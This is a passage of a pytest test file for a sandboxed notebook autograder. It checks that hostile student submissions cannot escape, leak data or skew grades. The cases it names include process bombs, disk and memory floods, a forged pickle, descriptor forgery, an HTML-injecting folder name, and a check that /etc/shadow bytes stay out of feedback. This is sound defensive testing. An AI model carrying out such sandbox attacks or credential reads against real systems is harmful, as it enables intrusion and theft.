            f"c = get_config()\nload_subconfig({str(course_code / 'nbgrader_config.py')!r})\n"
            f"c.CourseDirectory.root = {str(course)!r}\nc.CourseDirectory.db_url = 'sqlite:///{course}/gradebook.db'\n")
        for command in (["generate_assignment", NAME, "--force"], ["autograde", NAME], ["export"]):
            done = subprocess.run([sys.executable, "-m", "nbgrader", *command], cwd=course, env=env, capture_output=True, text=True)
            assert done.returncode == 0, done.stdout + done.stderr
        return {g["student_id"]: g for g in read_grades(course)}

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        courses = list(pool.map(grade, [attackers[0::2], attackers[1::2]]))
    return {"grades": courses[0] | courses[1], "classmates": [grades[CLASSMATE] for grades in courses],
            "connections": len(listener.connections), "left_changed": files_changed(course_code)}


@pytest.mark.parametrize("student", list(CATALOG))
def test_bad_submission_gets_its_grade_and_a_reason(bad_course, student):
    _, expected, words = CATALOG[student]
    row = bad_course["grades"].get(student)
    assert row is not None, f"{student} is missing from grades.csv"
    assert float(row["score"]) == pytest.approx(expected), student
    assert float(row["max_score"]) == FULL
    if words:
        # what the feedback says, and what grading_problems.csv tells the instructor about this student
        reasons = " ".join(line for line in bad_course["problems"].splitlines() if line.startswith(student + ","))
        if (bad_course["course"] / "autograded" / student / NAME / f"{NAME}.ipynb").exists():
            reasons += " ".join(r.reason for r in results_of(bad_course["course"], student, NAME).values())
        assert words in reasons, (student, reasons)


@pytest.mark.parametrize("student", PLAIN)
def test_an_attack_scores_the_same_through_plain_nbgrader(plain_nbgrader_course, student):
    assert float(plain_nbgrader_course["grades"][student]["score"]) == pytest.approx(CATALOG[student][1])


def tree_bytes(folder):
    return b"".join(p.read_bytes() for p in sorted(Path(folder).rglob("*")) if p.is_file() and not p.is_symlink())


@pytest.mark.parametrize("student", [s for s, (make, score, _) in CROSSINGS.items() if isinstance(make, Folder) and score == 0])
def test_nothing_outside_a_refused_submission_is_read(bad_course, student):
    course = bad_course["course"]
    assert not (course / "autograded" / student).exists()
    assert sorted(p.name for p in (course / "feedback" / student / NAME).iterdir()) == [f"{NAME}.html"]
    page = (course / "feedback" / student / NAME / f"{NAME}.html").read_text()
    assert "not graded" in page and "class SelfAttention" not in page
    secret = Path("/etc/shadow").read_bytes()[:24] if os.access("/etc/shadow", os.R_OK) else None
    if secret:
        assert secret not in tree_bytes(course / "feedback" / student) + tree_bytes(course / "autograded")


def test_outputs_are_bounded(bad_course):
    from autograder.grading import limits

    cap = limits.load(ROOT).outputs_mb * 2**20
    course = bad_course["course"]
    for student in ("floods_its_outputs", "floods_the_reply"):
        assert (course / "autograded" / student / NAME / f"{NAME}.ipynb").stat().st_size < cap + 2**20
        assert (course / "feedback" / student / NAME / f"{NAME}.html").stat().st_size < cap + 3 * 2**20


def test_the_sandbox_writes_no_more_than_its_scratch(bad_course):
    import re

    from autograder.grading import limits

    nb = nbformat.read(bad_course["course"] / "autograded" / "fills_the_disk" / NAME / f"{NAME}.ipynb", as_version=4)
    text = "".join(o.get("text", "") for o in nb.cells[-1].outputs)
    written = int(re.search(r"wrote (\d+) MB", text).group(1))
    assert written <= limits.load(ROOT).scratch_mb and "stopped: OSError" in text


def test_nothing_a_case_printed_or_kept_reaches_the_feedback(bad_course, plain_nbgrader_course):
    # every case's inputs, as the learner's code printed them; the public ones are no secret, but
    # they show that nothing of any case got out
    values = [repr(case.make().args[0].flatten()[0].item()) for case in registry.get("scaled_dot_product_attention").cases()]
    course = bad_course["course"]
    text = (course / "autograded" / "tells_the_hidden_inputs" / NAME / f"{NAME}.ipynb").read_text()
    text += (course / "feedback" / "tells_the_hidden_inputs" / NAME / f"{NAME}.html").read_text()
    assert "kept: [" in text  # the lesson's own cells ran it in the kernel: those stay, and nothing of a case
    assert not [v for v in values if v in text]


def test_a_hanging_submission_keeps_what_finished_and_says_why(bad_course):
    # sleeping cells use up the budget; a cell deaf to interrupts is stopped by the cell timeout, and the kernel
    # that never answers again costs the cells after it
    for student, says in (("sleeps_through_the_budget", f"not run: the notebook used up its {LIMITS['AUTOGRADER_NOTEBOOK_SECONDS']} s"),
                          ("ignores_interrupts", "not run: the kernel stopped answering in cell")):
        results = results_of(bad_course["course"], student, NAME)
        assert [r.status for r in results.values()][:3] == ["passed"] * 3
        assert says in results["SelfAttention"].reason


def test_the_classmate_keeps_full_marks(bad_course, plain_nbgrader_course):
    for row in (bad_course["grades"][CLASSMATE], *plain_nbgrader_course["classmates"]):
        assert float(row["score"]) == FULL


def test_no_process_is_left_behind(bad_course, plain_nbgrader_course):
    # the sandbox's pid namespace ends with its kernel; as root, its pids cgroup is removed after
    from autograder.grading.cgroups import PIDS

    left = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if MARKER in cmdline and "pytest" not in cmdline:
            left.append(cmdline)
    assert left == []
    for group in [g for g in os.listdir(PIDS) if g.startswith("autograder-")] if os.path.isdir(PIDS) else []:
        if not os.path.exists(f"/proc/{group.split('-')[1]}"):  # its grader has finished: nothing may run in it
            assert open(os.path.join(PIDS, group, "cgroup.procs")).read().split() == [], group
    assert float(bad_course["grades"]["process_bomb"]["score"]) == FULL


def test_the_course_files_are_as_before_grading(bad_course, plain_nbgrader_course):
    assert bad_course["left_changed"] == []
    assert plain_nbgrader_course["left_changed"] == []


def test_no_connection_left_the_sandbox(bad_course, plain_nbgrader_course):
    assert bad_course["connections"] == 0 and plain_nbgrader_course["connections"] == 0


def test_forged_results_run_no_code(bad_course, plain_nbgrader_course):
    assert not os.path.exists(FORGED)
    reasons = " ".join(r.reason for r in results_of(bad_course["course"], "forges_a_pickle", NAME).values())
    assert "could not be read" in reasons


def test_megabytes_of_output_are_cut(bad_course):
    path = bad_course["course"] / "autograded" / "megabytes_printed" / NAME / f"{NAME}.ipynb"
    assert path.stat().st_size < 2_000_000


# ---------------------------------------------------------------- interrupted and parallel runs


def grade_cli(course, *args):
    return subprocess.Popen(
        [sys.executable, "-m", "autograder", "grade", str(course), "--no-progress", *args],
        cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True,
    )


def test_a_run_killed_halfway_resumes_without_losing_or_duplicating_grades(tmp_path):
    course = tmp_path
    students = ["s1", "s2", "s3", "s4"]
    for i, s in enumerate(students):
        write(course, s, complete if i % 2 == 0 else blank)
    proc = grade_cli(course, "--jobs", "2")
    manifest = course / ".autograder" / "manifest.json"
    deadline = time.time() + 300
    while time.time() < deadline and not (manifest.exists() and json.loads(manifest.read_text()).get("graded")):
        time.sleep(0.5)
    os.killpg(proc.pid, signal.SIGKILL)  # the machine goes down mid-run
    proc.wait()
    first = json.loads(manifest.read_text())["graded"]
    assert 0 < len(first) < len(students), "the run should have been stopped halfway"
    proc = grade_cli(course, "--jobs", "2")
    out, _ = proc.communicate(timeout=600)
    assert proc.returncode == 0, out
    assert f"graded {len(students) - len(first)}, unchanged {len(first)}, failed 0" in out
    grades = read_grades(course)
    assert sorted(g["student_id"] for g in grades) == students
    for g in grades:
        assert float(g["score"]) == (FULL if g["student_id"] in ("s1", "s3") else 0)
    # a serial regrade from scratch agrees with the parallel, resumed one
    proc = grade_cli(course, "--jobs", "1", "--force")
    out, _ = proc.communicate(timeout=600)
    assert proc.returncode == 0, out
    assert [(g["student_id"], g["score"]) for g in read_grades(course)] == [(g["student_id"], g["score"]) for g in grades]


def test_a_folder_named_no_student_id_is_graded_under_no_name(bad_course, plain_nbgrader_course):
    # not graded, not in the gradebook, named (safely) with the reason; the classmate its glob matches keeps full marks
    from autograder.grading.intake import shown

    course = bad_course["course"]
    for student in UNNAMED:
        assert student not in bad_course["grades"] and student not in plain_nbgrader_course["grades"]
        assert f"{shown(student)},*," in bad_course["problems"] and "is not graded" in bad_course["problems"]
        assert not (course / "autograded" / student).exists() and not (course / "feedback" / student).exists()
    assert float(bad_course["grades"][CLASSMATE]["score"]) == FULL


def test_no_descriptor_of_the_grader_reaches_the_kernel(bad_course):
    # forged result lines and floods on every descriptor the kernel has: none is the grader's, so nothing
    # of them reaches grade's results or the worker's log on the host
    course = bad_course["course"]
    nb = nbformat.read(course / "autograded" / "writes_to_every_descriptor" / NAME / f"{NAME}.ipynb", as_version=4)
    text = "".join(o.get("text", "") for o in nb.cells[-1].outputs)
    assert "took lines:" in text, text[:300]
    assert "FORGED-BY-AN-ATTACKER" not in bad_course["problems"]
    for log in (course / ".autograder").glob("worker-*.log"):
        assert log.stat().st_size < 4 * 2**20, (log, log.stat().st_size)
        assert "FORGED-BY-AN-ATTACKER" not in log.read_text(errors="replace")


def test_dev_is_read_only_but_a_small_shm(bad_course):
    import re

    from autograder.grading.sandbox import SHM_BYTES

    nb = nbformat.read(bad_course["course"] / "autograded" / "fills_dev" / NAME / f"{NAME}.ipynb", as_version=4)
    text = "".join(o.get("text", "") for o in nb.cells[-1].outputs)
    assert "/dev/fill: 0 MB" in text, text
    assert int(re.search(r"/dev/shm/fill: (\d+) MB", text).group(1)) <= SHM_BYTES // 2**20


@pytest.mark.skipif(not os.access("/sys/fs/cgroup/memory", os.W_OK), reason="a memory cgroup needs root and cgroup v1's memory hierarchy")
def test_the_sandbox_holds_no_more_memory_than_its_limit(bad_course):
    import re

    nb = nbformat.read(bad_course["course"] / "autograded" / "fills_the_memory" / NAME / f"{NAME}.ipynb", as_version=4)
    text = "".join(o.get("text", "") + o.get("evalue", "") for o in nb.cells[-1].outputs)
    held = [int(n) for n in re.findall(r"held (\d+) MB", text)]
    assert held and max(held) < int(LIMITS["AUTOGRADER_SANDBOX_MEMORY_MB"]), text[-500:]


def test_a_misnamed_assignment_folder_gets_0_for_what_it_resembles_or_no_name(bad_course):
    from autograder.grading.intake import shown

    assert float(bad_course["grades"]["misnames_its_folder"]["score"]) == 0
    assert f"did you mean {NAME}?" in bad_course["problems"]
    assert "not graded" in (bad_course["course"] / "feedback" / "misnames_its_folder" / NAME / f"{NAME}.html").read_text()
    assert "names_its_folder_in_html" not in bad_course["grades"]
    assert f"names_its_folder_in_html,{shown('x<img src=y>')}," in bad_course["problems"]
    assert not (bad_course["course"] / "feedback" / "names_its_folder_in_html").exists()
